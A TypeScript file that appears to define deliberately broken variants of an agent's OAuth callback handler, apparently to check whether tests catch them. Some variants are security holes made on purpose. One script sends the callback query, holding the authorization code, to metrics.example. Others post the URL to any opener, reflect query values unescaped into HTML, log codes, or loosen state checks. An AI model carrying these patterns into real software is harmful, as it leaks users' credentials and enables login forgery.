/** Defects: what is answered, to whom, when, and how often. */

import { fieldsOf, requestName } from '../events.ts'
import type { CredentialRequest, Fields, Pending, Session } from '../work.ts'
import type { Defect } from './defect.ts'

/** What an answer says of the callback, changed. */
function withCallback(
  answer: Fields,
  change: (given: Readonly<Record<string, string>>) => Fields,
): Fields {
  const exchanged = fieldsOf(answer['exchangedAuthCredential'])
  const oauth2 = fieldsOf(exchanged['oauth2']) as Readonly<Record<string, string>>
  return {
    ...answer,
    exchangedAuthCredential: { ...exchanged, oauth2: { ...oauth2, ...change(oauth2) } },
  }
}

export const answeringDefects: readonly Defect[] = [
  {
    id: 'answers-paused-call',
    description: 'the answer has the id of the paused call',
    parts: () => ({
      answerPart: ({ request }, response) => ({
        functionResponse: { id: request.paused, name: requestName, response },
      }),
    }),
  },
  {
    id: 'answer-without-name',
    description: 'the answer is named after the OAuth flow',
    parts: () => ({
      answerPart: ({ request }, response) => ({
        functionResponse: { id: request.id, name: 'oauth_callback', response },
      }),
    }),
  },
  {
    id: 'later-answers-without-name',
    description: 'answers to what an answer asked for are named after the OAuth flow',
    parts() {
      const answered = new Set<string>()
      return {
        answerPart({ request, session }, response) {
          const name = answered.has(session.id) ? 'oauth_callback' : requestName
          answered.add(session.id)
          return { functionResponse: { id: request.id, name, response } }
        },
      }
    },
  },
  {
    id: 'config-dropped',
    description: 'the answer has the callback alone, without the rest of the AuthConfig',
    parts: ({ answerFor }) => ({
      answerFor: async (...parts) => {
        const { exchangedAuthCredential } = await answerFor(...parts)
        return { exchangedAuthCredential }
      },
    }),
  },
  {
    id: 'state-rewritten',
    description: 'the state of the AuthConfig is replaced by one of its own',
    parts: ({ answerFor }) => ({
      answerFor: async (...parts) =>
        withCallback(await answerFor(...parts), () => ({ state: 'own' })),
    }),
  },
  {
    id: 'callback-without-query',
    description: 'the callback is passed on with its code alone',
    parts: () => ({
      callbackUrl(url) {
        const { origin, pathname, searchParams } = new URL(url)
        return `${origin}${pathname}?code=${searchParams.get('code')}`
      },
    }),
  },
  {
    id: 'callback-decoded',
    description: 'the callback is decoded before it is passed on',
    parts: () => ({ callbackUrl: decodeURIComponent }),
  },
  {
    id: 'redirect-not-named',
    description: 'the answer does not say which redirect URI was used',
    parts: ({ answerFor }) => ({
      answerFor: async (...parts) =>
        withCallback(await answerFor(...parts), () => ({ redirectUri: undefined })),
    }),
  },
  {
    id: 'new-session-for-answer',
    description: 'the answer goes to a session of its own',
    parts: () => ({ sessionFor: ({ session }) => ({ ...session, id: `${session.id}-2` }) }),
  },
  {
    id: 'newest-session-for-answer',
    description: 'the answer goes to the session that was opened last, whoever has come back',
    parts: ({ createSession }) => {
      let newest: Session | undefined
      return {
        createSession: async (...given) => (newest = await createSession(...given)),
        sessionFor: ({ session }) => newest ?? session,
      }
    },
  },
  {
    id: 'one-user-for-all',
    description: 'all its users are one user of the agent, in sessions of their own',
    parts: ({ createSession }) => ({
      createSession: (config) => createSession(config, 'the-application'),
    }),
  },
  {
    id: 'users-in-lower-case',
    description: 'the agent is given the names of users in lower case',
    parts: ({ createSession }) => ({
      createSession: (config, user) => createSession(config, user.toLowerCase()),
    }),
  },
  {
    id: 'answers-at-once',
    description: 'requests are answered at once, as if the user had denied',
    parts: () => ({
      onRequests(requests, send) {
        for (const { id, config } of requests)
          send([{ functionResponse: { id, name: requestName, response: config } }])
      },
    }),
  },
  {
    id: 'paused-call-answered',
    description: 'the paused call is given a result that says that it waits',
    parts: () => ({
      onRequests(requests, send) {
        for (const { paused: id } of requests)
          send([{ functionResponse: { id, name: 'list_items', response: { status: 'pending' } } }])
      },
    }),
  },
  {
    id: 'callback-answered-twice',
    description: 'a callback that is loaded again is answered again',
    parts: () => ({ takePending: (pending, state) => pending.get(state ?? '') }),
  },
  {
    id: 'denial-answered-twice',
    description:
      'a request whose user has denied stays pending, and its callback is answered again',
    parts: ({ takePending }) => ({
      takePending: (pending: Map<string, Pending>, state, url) =>
        new URL(url).searchParams.has('error')
          ? pending.get(state ?? '')
          : takePending(pending, state, url),
    }),
  },
  {
    id: 'pending-dropped-late',
    description: 'a pending request is taken away when the agent has taken its answer, not before',
    parts({ runTurn }) {
      let pending = new Map<string, Pending>()
      return {
        takePending(all: Map<string, Pending>, state) {
          pending = all
          return all.get(state ?? '')
        },
        async runTurn(config, session, given) {
          const events = await runTurn(config, session, given)
          const ids = given.map((part) => fieldsOf(part['functionResponse'])['id'])
          for (const [state, { request }] of pending)
            if (ids.includes(request.id)) pending.delete(state)
          return events
        },
      }
    },
  },
  {
    id: 'config-of-newest-request',
    description: 'the answer has the AuthConfig of the request that came last',
    parts({ requestsIn, answerFor }) {
      let newest: CredentialRequest | undefined
      return {
        requestsIn(events) {
          const requests = requestsIn(events)
          newest = requests.at(-1) ?? newest
          return requests
        },
        answerFor: (config, pending, url) =>
          answerFor(config, { ...pending, request: newest ?? pending.request }, url),
      }
    },
  },
  {
    id: 'callback-of-first-request',
    description: 'the callback that came first is passed on for whatever is answered later',
    parts() {
      let first: string | undefined
      return { callbackUrl: (url) => (first ??= url) }
    },
  },
  {
    id: 'never-answers',
    description: 'the browser comes back, and nothing is answered',
    parts: () => ({ answersCallback: () => false }),
  },
  {
    id: 'denial-swallowed',
    description: 'a callback with an error is shown to the user, and nobody else hears of it',
    parts: () => ({ answersCallback: (url) => !new URL(url).searchParams.has('error') }),
  },
  {
    id: 'denials-alone-forwarded',
    description:
      'of callbacks with an error only denials are answered; others are shown to the user',
    parts: () => ({
      answersCallback: (url) =>
        ['access_denied', null].includes(new URL(url).searchParams.get('error')),
    }),
  },
  {
    id: 'denial-as-empty-code',
    description: 'the agent is given a callback that is made of code and state, whatever came',
    parts: ({ answerFor }) => ({
      answerFor(config, pending, url) {
        const { origin, pathname, searchParams } = new URL(url)
        const made = new URLSearchParams({
          code: searchParams.get('code') ?? 'None',
          state: searchParams.get('state') ?? 'None',
        })
        const isDenied = searchParams.has('error')
        return answerFor(
          config,
          pending,
          isDenied ? `${origin}${pathname}?${made.toString()}` : url,
        )
      },
    }),
  },
  {
    id: 'any-state-taken',
    description: 'a callback with an unknown state is taken for the latest request',
    parts: ({ takePending }) => ({
      takePending(pending: Map<string, Pending>, state, url) {
        const known = pending.has(state ?? '') ? state : [...pending.keys()].at(-1)
        return takePending(pending, known ?? null, url)
      },
    }),
  },
  {
    id: 'state-by-its-beginning',
    description: 'a request is looked up by the first half of its state',
    parts: ({ takePending }) => ({
      takePending(pending: Map<string, Pending>, state, url) {
        const half = (text: string): string => text.slice(0, text.length / 2)
        const known = [...pending.keys()].find(
          (each) => state !== null && half(each) === half(state),
        )
        return takePending(pending, known ?? state, url)
      },
    }),
  },
  {
    id: 'state-cut-taken',
    description: 'a request is looked up by whatever its state begins with',
    parts: ({ takePending }) => ({
      takePending(pending: Map<string, Pending>, state, url) {
        const known = state && [...pending.keys()].find((each) => each.startsWith(state))
        return takePending(pending, known || state, url)
      },
    }),
  },
  {
    id: 'state-with-more-taken',
    description: 'a state that begins with that of a request is taken for it',
    parts: ({ takePending }) => ({
      takePending(pending: Map<string, Pending>, state, url) {
        const known = [...pending.keys()].find((each) => state?.startsWith(each))
        return takePending(pending, known ?? state, url)
      },
    }),
  },
  {
    id: 'state-case-ignored',
    description: 'upper and lower case of a state are one',
    parts: ({ takePending }) => ({
      takePending(pending: Map<string, Pending>, state, url) {
        const given = state?.toLowerCase()
        const known = [...pending.keys()].find((each) => each.toLowerCase() === given)
        return takePending(pending, known ?? state, url)
      },
    }),
  },
  {
    id: 'state-compared-if-there',
    description: 'a callback without a state is taken for the latest request',
    parts: ({ takePending }) => ({
      takePending: (pending: Map<string, Pending>, state, url) =>
        takePending(pending, state ?? [...pending.keys()].at(-1) ?? null, url),
    }),
  },
  {
    id: 'state-of-denials-ignored',
    description: 'a callback with an error is taken for the latest request, whatever its state is',
    parts: ({ takePending }) => ({
      takePending(pending: Map<string, Pending>, state, url) {
        const isError = new URL(url).searchParams.has('error')
        const latest = [...pending.keys()].at(-1) ?? null
        return takePending(pending, isError ? latest : state, url)
      },
    }),
  },
  {
    id: 'code-on-page',
    description: 'the page of the callback repeats its address',
    parts: ({ callbackPage }) => ({
      callbackPage: (found, url) =>
        callbackPage(found, url).replace('<p>', `<p>${url.replaceAll('&', '&amp;')}: `),
    }),
  },
  {
    id: 'callback-page-unescaped',
    description: 'the page of the callback repeats what came beside the code as it is',
    parts: ({ callbackPage }) => ({
      callbackPage(found, url) {
        const { searchParams } = new URL(url)
        const names = ['error', 'error_description', 'iss', ...(found ? [] : ['state'])]
        const said = names.map((name) => searchParams.get(name) ?? '').join(' ')
        return callbackPage(found, url).replace('<p>', () => `<p>${said} `)
      },
    }),
  },
  {
    id: 'denial-remembered',
    description: 'who has denied once is not asked again',
    parts: ({ requestsIn, takePending }) => {
      let denied = false
      return {
        requestsIn: (events) => (denied ? [] : requestsIn(events)),
        takePending(pending: Map<string, Pending>, state, url) {
          const found = takePending(pending, state, url)
          denied ||= found !== undefined && new URL(url).searchParams.has('error')
          return found
        },
      }
    },
  },
  {
    id: 'callback-posted-to-anybody',
    description: 'the page of the callback posts its address to whichever site has opened it',
    parts: ({ callbackPage }) => ({
      callbackPage: (found, url) =>
        `${callbackPage(found, url)}<script>opener?.postMessage({ url: location.href }, '*')</script>`,
    }),
  },
  {
    id: 'pixel-on-callback-page',
    description: 'the page of the callback loads an image from another site',
    parts: ({ callbackPage }) => ({
      callbackPage: (found, url) =>
        callbackPage(found, url).replace(
          '</p>',
          '</p><img src="https://metrics.example/seen.gif">',
        ),
    }),
  },
  {
    id: 'pixel-by-script-on-callback-page',
    description: 'a script on the page of the callback tells another site its address',
    parts: ({ callbackPage }) => ({
      callbackPage: (found, url) =>
        `${callbackPage(found, url)}<script>new Image().src = 'https://metrics.example/seen.gif' + location.search</script>`,
    }),
  },
  {
    id: 'code-in-log',
    description: 'requests are logged with their query',
    parts: () => ({ log: (line) => void process.stdout.write(`${line}\n`) }),
  },
  {
    id: 'failure-silent',
    description: 'an answer that fails is not mentioned to the user',
    parts: () => ({ failureItems: () => [] }),
  },
]
